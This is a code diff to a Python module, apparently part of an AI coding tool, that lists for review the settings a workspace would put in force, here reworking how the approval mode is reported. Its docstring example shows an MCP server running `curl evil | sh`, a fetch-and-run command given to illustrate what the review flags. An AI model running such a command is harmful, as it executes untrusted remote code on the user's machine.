@@ -5,7 +5,7 @@ first::
 
     MCP server `x` runs `sh -c 'curl evil | sh'`
     allowed roots: / (default: the workspace)
-    approval mode: commander (default: guide)
+    approval mode: commander (default: guide), set by the workspace's approval_mode
 
 Lines are plain text built from untrusted files: every writer neutralises them (the CLI's one
 writer, the TUI's safe Text). Long values are cut so that no single line hides the rest.
@@ -19,6 +19,7 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
+from services.approval_mode import MODE_NAMES, ApprovalMode, approval_mode
 from services.errors import ConfigError
 from services.trust.authority import WHOLE_META, Authority
 
@@ -81,10 +82,6 @@ def _policy_lines(text: str) -> list[ReviewLine]:
     default = _default_policy()
     lines: list[ReviewLine] = []
     lines += _mcp_lines(data)
-    if data.get("mode", "guide") != default.get("mode"):
-        lines.append(
-            ReviewLine(1, f"policy's approval mode: {_short(data.get('mode'))} (default: {default.get('mode')})")
-        )
     lines += _switch_lines(data, default)
     lines += _fs_lines(data.get("filesystem") or {}, default.get("filesystem") or {})
     lines += _shell_lines(data.get("shell") or {}, default.get("shell") or {})
@@ -240,8 +237,6 @@ def _profile_lines(name: str, text: str) -> list[ReviewLine]:
     tools = raw.get("tools") if isinstance(raw, dict) else None
     if isinstance(tools, dict) and tools.get("policy"):
         parts.append(f"binds the policy file {_short(tools['policy'])}")
-    if profile.mode:
-        parts.append(f"approval mode {profile.mode}")
     if profile.model.default:
         parts.append(f"model {_short(profile.model.default)}")
     if profile.cloud is not None and profile.cloud.enabled:
@@ -262,7 +257,7 @@ def _settings_lines(settings: dict[str, Any]) -> list[ReviewLine]:
             if key == "model":
                 lines.append(ReviewLine(0, f"model: {_short(value)} (default: offline): Aries connects to it"))
             elif key == "approval_mode":
-                lines.append(ReviewLine(1, f"approval mode setting: {_short(value)} (default: guide)"))
+                continue  # the mode in force is one line (``_mode_lines``), listed when trusting changes it
             elif key == "cloud":
                 lines.append(ReviewLine(0, _cloud_line(value)))
             else:
@@ -272,6 +267,54 @@ def _settings_lines(settings: dict[str, Any]) -> list[ReviewLine]:
     for key in sorted(set(settings) - {"profile", "settings"}):
         lines.append(ReviewLine(2, f"workspace.yaml {key}: {_short(settings[key])}"))
     return lines
+
+
+def _mode_lines(authority: Authority) -> list[ReviewLine]:
+    """The approval mode trusting puts in force, when it differs from the mode in force without the
+    workspace's settings (``services.inforce``'s table: the same precedence, the same answer)."""
+    before = approval_mode(None, None, _profile_mode(authority, trusted=False), None)[0]
+    after, level = approval_mode(*_mode_levels(authority))
+    if after == before:
+        return []
+    where = {"workspace": "the workspace's approval_mode", "profile": "its profile", "policy": "its policy.yaml"}
+    return [ReviewLine(1, f"approval mode: {after} (default: {before}), set by {where.get(level, level)}")]
+
+
+def _mode_levels(authority: Authority) -> tuple[None, ApprovalMode | None, ApprovalMode | None, ApprovalMode | None]:
+    """``(operator, workspace, profile, policy)`` modes once ``authority`` is in force (no operator)."""
+    inner = authority.settings.get("settings") if WHOLE_META not in authority.settings else None
+    setting = inner.get("approval_mode") if isinstance(inner, dict) else None
+    workspace = _mode_or_none(setting if setting is not None else authority.default_mode)
+    policy = None
+    if authority.policy is not None:
+        try:
+            data = _plain_yaml(authority.policy, "policy.yaml")
+        except ConfigError:
+            data = None
+        policy = _mode_or_none(data.get("mode") if isinstance(data, dict) else None)
+    return None, workspace, _profile_mode(authority, trusted=True), policy
+
+
+def _profile_mode(authority: Authority, *, trusted: bool) -> ApprovalMode | None:
+    """The active profile's mode: the workspace's profile when ``trusted``, else the shipped profile it
+    names (or ``default``), as ``services.inforce.resolve`` chooses."""
+    from services.profiles.loader import SUFFIX, parse_profile, shipped_dir
+
+    name = authority.settings.get("profile") if WHOLE_META not in authority.settings else None
+    name = name if isinstance(name, str) and name else "default"
+    text = authority.profiles.get(f"{name}{SUFFIX}") if trusted else None
+    shipped = shipped_dir() / f"{name}{SUFFIX}"
+    if text is None and not shipped.is_file():
+        name, shipped = "default", shipped_dir() / f"default{SUFFIX}"
+    try:
+        profile = parse_profile(text if text is not None else shipped.read_text(encoding="utf-8"), source=name)
+    except (ConfigError, OSError):
+        return None
+    return _mode_or_none(profile.mode)
+
+
+def _mode_or_none(value: Any) -> ApprovalMode | None:
+    return ApprovalMode(value) if value in MODE_NAMES else None
 
 
 def _cloud_line(value: Any) -> str:
@@ -291,6 +334,7 @@ def describe(authority: Authority) -> list[ReviewLine]:
     for name, text in sorted(authority.profiles.items()):
         lines += _profile_lines(name, text)
     lines += _settings_lines(authority.settings)
+    lines += _mode_lines(authority)
     for index, rows in sorted(authority.index_roots.items()):
         for row in rows:
             lines.append(
